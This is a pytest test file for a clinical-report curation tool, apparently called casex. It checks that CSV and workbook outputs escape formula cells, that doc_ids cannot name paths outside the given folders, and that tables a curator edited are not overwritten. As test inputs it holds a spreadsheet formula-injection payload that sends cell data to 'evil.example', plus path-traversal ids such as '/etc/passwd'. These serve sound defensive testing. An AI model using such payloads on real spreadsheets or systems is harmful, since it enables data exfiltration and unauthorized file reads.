"""Curation outputs that cannot harm who opens them, and that never destroy a curator's work:
no formula cell in CSV or workbook, doc_ids that never become paths outside the folders given,
and tables a curator edited that a re-run refuses to overwrite."""

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fake_records import gold_of, make_record
from typer.testing import CliRunner

from casex.cli import app
from casex.evaluate.gold_from_table import gold_from_table
from casex.io.doc_ids import DocIdError, checked_doc_id, doc_id_problem
from casex.io.safe_cells import guard_formula, unguard_formula
from casex.io.writers import write_json_atomic
from casex.io.written_files import MANIFEST
from casex.tables import COLUMNS, WORKBOOK, read_table, to_tables, write_tables

runner = CliRunner()
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"ponatinib")\n'
    "@SUM(1+1) was typed by someone\n"
    "Hemoglobin was -0.5 g/dL below range.\n"
)


@pytest.mark.parametrize(
    "text,written",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-CD20", "'-CD20"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'quoted", "''quoted"),
        ("CD20-", "CD20-"),
        ("", ""),
    ],
)
def test_formula_guard_round_trips(text, written):
    assert guard_formula(text) == written
    assert unguard_formula(written) == text


def test_unguard_strips_only_its_own_quote():
    assert unguard_formula("'plain") == "'plain"
    assert unguard_formula("''=x") == "'=x"


@pytest.fixture
def hostile(tmp_path):
    """A record whose doc_id and text a spreadsheet would run as formulas, in tables."""
    record = make_record("=1+2", HOSTILE, [("DRUG", "ponatinib"), ("LAB_VALUE", "-0.5 g/dL")])
    write_json_atomic(tmp_path / "json" / "=1+2.json", record)
    write_tables(to_tables([record]), tmp_path / "tables")
    return record


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(hostile, tmp_path):
    text = (tmp_path / "tables" / "mentions.csv").read_text(encoding="utf-8")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    for row in rows:
        for column, cell in zip(header, row):
            if COLUMNS["mentions"][column] == "string":
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    drug, lab = (dict(zip(header, row)) for row in rows)
    assert drug["sentence"].startswith("'=HYPERLINK(")
    assert (lab["doc_id"], lab["text"], lab["norm_value"]) == ("'=1+2", "'-0.5 g/dL", "-0.5")


def test_workbook_has_no_formula_cell(hostile, tmp_path):
    book = openpyxl.load_workbook(tmp_path / "tables" / WORKBOOK)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    sheet = book["mentions"]
    header = [cell.value for cell in sheet[1]]
    value = sheet.cell(row=3, column=header.index("norm_value") + 1)
    assert (value.value, value.data_type) == (-0.5, "n")
    assert sheet.cell(row=2, column=1).value == "'=1+2"


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "parquet"])
def test_guarded_cells_read_back_as_the_original_text(hostile, tmp_path, suffix):
    folder = tmp_path / "tables"
    path = folder / (WORKBOOK if suffix == "xlsx" else f"mentions.{suffix}")
    loaded = read_table(path, "mentions")
    pd.testing.assert_frame_equal(loaded, to_tables([hostile]).mentions)
    assert loaded.loc[0, "doc_id"] == "=1+2"
    assert loaded.loc[0, "sentence"].startswith("=HYPERLINK(")


def test_workbook_layout_for_curators(hostile, tmp_path):
    sheet = openpyxl.load_workbook(tmp_path / "tables" / WORKBOOK)["mentions"]
    header = [cell.value for cell in sheet[1]]
    assert header[:4] == ["doc_id", "label", "text", "sentence"]
    assert header.index("norm_marker") < header.index("negated") < header.index("start")
    assert header[-3:] == ["start", "end", "id"]
    assert sheet.freeze_panes == "A2"
    widths = {h: sheet.column_dimensions[chr(65 + i)].width for i, h in enumerate(header[:26])}
    assert widths["sentence"] > widths["label"] >= 8
    lists = {}
    for validation in sheet.data_validations.dataValidation:
        letters = re.match(r"[A-Z]+", str(validation.sqref)).group()
        column = header[openpyxl.utils.column_index_from_string(letters) - 1]
        lists[column] = validation.formula1.strip('"').split(",")
    assert lists["label"] == [
        "IMMUNOPHENOTYPE",
        "DRUG",
        "DOSE",
        "LAB_VALUE",
        "RESPONSE",
        "ADVERSE_EVENT",
        "THERAPY",
        "GENETICS",
    ]
    assert "regimen" in lists["norm_kind"] and "fusion" in lists["norm_kind"]
    assert lists["negated"] == ["TRUE", "FALSE"]
    assert lists["norm_expression"] == ["positive", "negative"]
    assert lists["norm_intensity"] == ["dim", "bright", "weak", "partial"]
    assert lists["norm_route"][:4] == ["IV", "PO", "SC", "IT"]
    assert lists["norm_comparator"] == ["<", ">", "<=", ">="]
    assert "MRD_NEGATIVE" in lists["norm_category"] and "flow" in lists["norm_basis"]


def test_a_formula_doc_id_becomes_gold(hostile, tmp_path):
    documents, failures = gold_from_table(
        tmp_path / "tables" / "mentions.csv", tmp_path / "json", []
    )
    assert failures == []
    [gold] = documents
    assert gold["doc_id"] == "=1+2"
    assert gold["text_sha256"] == hostile["sha256"]
    assert [m["text"] for m in gold["mentions"]] == ["ponatinib", "-0.5 g/dL"]


@pytest.mark.parametrize(
    "doc_id", ["../../x/secret", "/etc/passwd", "a/b", "a\\b", "..", ".", "", "C:secret", "x\x00y"]
)
def test_doc_ids_that_are_no_file_names(doc_id):
    assert doc_id_problem(doc_id)
    with pytest.raises(DocIdError, match="cannot name a file"):
        checked_doc_id(doc_id)


@pytest.mark.parametrize("doc_id", ["=1+2", "*", "[s]hort", "report v2", "a..b", "Ünïcode"])
def test_doc_ids_with_odd_characters_are_file_names(doc_id):
    assert checked_doc_id(doc_id) == doc_id


def _mentions_table(tmp_path: Path, doc_ids: list[str]) -> Path:
    """A mentions table whose rows name `doc_ids`, each with the short report's mention."""
    record = make_record("short", "Hb -0.5 g/dL.\n", [("LAB_VALUE", "-0.5 g/dL")])
    frame = to_tables([record]).mentions
    frame = pd.concat([frame.assign(doc_id=doc_id) for doc_id in doc_ids], ignore_index=True)
    path = tmp_path / "tables" / "mentions.csv"
    path.parent.mkdir(parents=True, exist_ok=True)
    frame.to_csv(path, index=False)
    (tmp_path / "raw").mkdir(exist_ok=True)
    (tmp_path / "raw" / "short.txt").write_text(record["text"], encoding="utf-8")
    return path


def test_gold_from_table_never_reads_or_writes_outside_its_folders(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET CONTENT", encoding="utf-8")
    inner = tmp_path / "work"
    table = _mentions_table(inner, ["short", "../secret", str(secret.with_suffix("")), "*"])
    result = runner.invoke(
        app,
        [
            "gold-from-table",
            "--table",
            str(table),
            "--pred",
            str(inner / "none"),
            "--raw",
            str(inner / "raw"),
            "--out",
            str(inner / "gold"),
        ],
    )
    assert result.exit_code == 1
    assert "TOP SECRET" not in result.output
    assert "Traceback" not in result.output
    lines = result.output.strip().splitlines()
    assert "casex: error: '../secret': doc_id cannot name a file" in lines[0]
    assert "cannot name a file: it holds a path separator" in lines[1]
    # A glob character is taken literally: `*` is no report, and matches none.
    assert lines[2].startswith("casex: error: *: no report text: ")
    assert [p.name for p in (inner / "gold").iterdir()] == ["short.jsonl"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["secret.txt", "work"]


def test_evaluate_refuses_a_gold_doc_id_that_is_no_file_name(tmp_path):
    record = make_record("short", "Hb -0.5 g/dL.\n", [("LAB_VALUE", "-0.5 g/dL")])
    write_json_atomic(tmp_path / "json" / "short.json", record)
    gold = tmp_path / "gold.jsonl"
    gold.write_text(json.dumps(gold_of(record) | {"doc_id": "../json/short"}) + "\n", "utf-8")
    result = runner.invoke(app, ["evaluate", "--gold", str(gold), "--pred", str(tmp_path / "json")])
    assert result.exit_code == 2
    assert result.output.strip() == (
        "casex: error: gold.jsonl:1: doc_id '../json/short' cannot name a file: "
        "it holds a path separator"
    )


def _run_tables(tmp_path: Path, *options: str):
    return runner.invoke(
        app,
        ["tables", "--pred", str(tmp_path / "json"), "--out", str(tmp_path / "tables"), *options],
    )


def test_tables_never_overwrite_what_a_curator_edited(hostile, tmp_path):
    tables = tmp_path / "tables"
    assert json.loads((tables / MANIFEST).read_text("utf-8"))["files"].keys() == {
        *(f"{n}.{s}" for n in ("mentions", "cases", "relations") for s in ("csv", "parquet")),
        WORKBOOK,
    }
    assert _run_tables(tmp_path).exit_code == 0  # unchanged files are rewritten
    edited = (tables / "mentions.csv").read_text("utf-8").replace("ponatinib", "imatinib")
    (tables / "mentions.csv").write_text(edited, "utf-8")
    before = {p.name: p.read_bytes() for p in tables.iterdir()}
    result = _run_tables(tmp_path)
    assert result.exit_code == 2
    assert result.output.strip() == (
        f"casex: error: {tables / 'mentions.csv'} was edited since casex wrote it; it is not "
        "overwritten (move it away, or use --force)"
    )
    assert {p.name: p.read_bytes() for p in tables.iterdir()} == before
    result = _run_tables(tmp_path, "--force")
    assert result.exit_code == 0, result.output
    assert "imatinib" not in (tables / "mentions.csv").read_text("utf-8")
    assert _run_tables(tmp_path).exit_code == 0


def test_tables_refuse_a_file_they_did_not_write(hostile, tmp_path):
    (tmp_path / "tables" / MANIFEST).unlink()
    (tmp_path / "tables" / WORKBOOK).write_bytes(b"the curator's own workbook")
    result = _run_tables(tmp_path)
    assert result.exit_code == 2
    assert f"{tmp_path / 'tables' / WORKBOOK} was edited" in result.output
    assert (tmp_path / "tables" / WORKBOOK).read_bytes() == b"the curator's own workbook"


def test_tables_into_a_file_is_one_error(hostile, tmp_path):
    (tmp_path / "file").write_text("x", "utf-8")
    result = runner.invoke(
        app, ["tables", "--pred", str(tmp_path / "json"), "--out", str(tmp_path / "file")]
    )
    assert result.exit_code == 2
    assert result.output.startswith("casex: error: ")
    assert len(result.output.strip().splitlines()) == 1
    assert "Traceback" not in result.output
